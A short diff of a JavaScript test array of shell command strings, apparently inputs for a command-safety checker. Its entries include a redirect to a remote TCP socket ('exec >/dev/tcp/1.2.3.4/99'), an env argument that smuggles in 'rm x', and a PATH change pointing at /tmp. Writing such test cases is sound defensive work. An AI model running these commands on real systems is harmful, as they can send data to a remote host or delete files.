@@ -74,7 +74,7 @@ const waits = [
   'env FOO=bar ls',
   "env -S 'ls;rm x'",
   'exec >/dev/tcp/1.2.3.4/99',
-  'echo $(( $(id -u) ))',
+  'echo $(( $(cat f) ))',
   'x=1; for i in 1 2; do echo $((x)); read x; done',
   'declare -i x=1',
   'export PATH=/tmp:$PATH',
